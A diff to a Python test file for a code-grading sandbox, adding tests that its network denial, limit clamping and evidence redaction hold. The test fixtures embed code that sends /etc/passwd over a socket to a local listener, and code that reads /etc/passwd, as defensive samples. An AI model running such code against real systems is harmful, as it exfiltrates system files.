@@ -102,3 +102,35 @@ def test_a_code_environment_trajectory_is_replayed_then_its_submission_tested():
     wrong = verify_record(code_env_record("def is_balanced(text):\n    return len(text) % 2 == 0\n"))
     assert wrong.reasons == ["tests_failed"]
     assert wrong.evidence["unit_tests"]["tests_passed"] == 2  # only the two even-length balanced cases
+
+
+def test_a_record_cannot_raise_the_limits_nor_reach_a_listener_on_loopback():
+    from environments.code import sandbox_config
+    from tests.environments.code.attacks import Listener
+
+    listener = Listener()
+    try:
+        leak = (
+            f"import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {listener.port}), timeout=2)\n"
+            "    s.sendall(open('/etc/passwd', 'rb').read())\nexcept OSError:\n    pass\n"
+        )
+        wish = {"network": True, "wall_s": 1000, "cpu_s": 1000, "memory_mb": 100000, "max_processes": 500}
+        verdict = check([CodeAction(language="python", content=leak + TASK.reference)], spec={"limits": wish})
+    finally:
+        listener.close()
+    assert listener.accepted == 0
+    assert (verdict.passed, verdict.reasons) == (False, ["network_denied"])
+    assert verdict.evidence["limits"] == sandbox_config().limits.model_dump()
+
+
+def test_evidence_is_bounded_and_names_no_file_outside_the_task_folder():
+    code = (
+        "import sys\nsys.stderr.write('x' * 100000)\nprint(open('/etc/passwd').read(), file=sys.stderr)\n"
+        + TASK.reference
+    )
+    verdict = check([CodeAction(language="python", content=code)])
+    evidence = str(verdict.evidence)
+    assert verdict.reasons == ["runtime_error"]
+    assert verdict.evidence["errors"][0]["detail"].endswith("No such file or directory: '<path>'")
+    assert "/etc/passwd" not in evidence and "root:x" not in evidence
+    assert len(verdict.evidence["stderr"]) == 500
